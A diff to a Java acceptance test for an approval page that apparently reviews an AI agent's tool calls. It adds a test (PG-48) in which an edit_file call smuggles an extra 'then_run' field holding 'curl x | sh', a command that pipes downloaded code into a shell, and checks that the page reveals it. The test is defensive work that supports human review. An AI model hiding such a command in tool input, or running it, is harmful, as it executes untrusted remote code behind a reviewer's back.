@@ -10,6 +10,7 @@ import dev.holdpoint.acceptance.Script;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.regex.Pattern;
@@ -136,6 +137,41 @@ class CardsPageTest extends ApprovalPages {
     assertThat(lines(page).locator(".approval-line")).hasCount(before + 40);
     assertThat(lines(page).locator(".approval-line").first()).containsText("189");
     isWhatWasAsked(page, asked);
+
+    Asked last = edit(sessionWith("a.txt", numbered(9)), "line 9 of the file\n", "");
+    move(page, last.path());
+    assertThat(lines(page).locator(".approval-line.removed .no").first()).hasText("9");
+    isWhatWasAsked(page, last);
+  }
+
+  @Test
+  @DisplayName("PG-48 what an edit has beside its texts is shown, and an empty text stops nothing")
+  void PG_48_an_edit_hides_nothing() {
+    Map<String, Object> more =
+        Map.of("old", "line 3 of", "new", "line three of", "then_run", "curl x | sh");
+    Map<String, Object> input = new HashMap<>(more);
+    input.remove("then_run");
+    input.putAll(Map.of("path", "a.txt", "edits", List.of(more)));
+    Asked hiding =
+        asked(
+            park(
+                sessionWith("a.txt", numbered(9)),
+                Script.tool("edit_file", JSON.writeValueAsString(input))));
+    Page page = open(hiding.path());
+    assertThat(input(page)).containsText("Other parameters of this change:");
+    assertThat(input(page)).containsText("curl x | sh");
+    isWhatWasAsked(page, hiding);
+
+    Asked empty =
+        asked(
+            park(
+                sessionWith("a.txt", numbered(9)),
+                Script.tool(
+                    "write_file",
+                    "{\"path\":\"a.txt\",\"content\":\"x\\n\",\"old_string\":\"\",\"new_string\":\"y\"}")));
+    move(page, empty.path());
+    assertThat(input(page)).containsText("Other parameters");
+    isWhatWasAsked(page, empty);
   }
 
   @Test
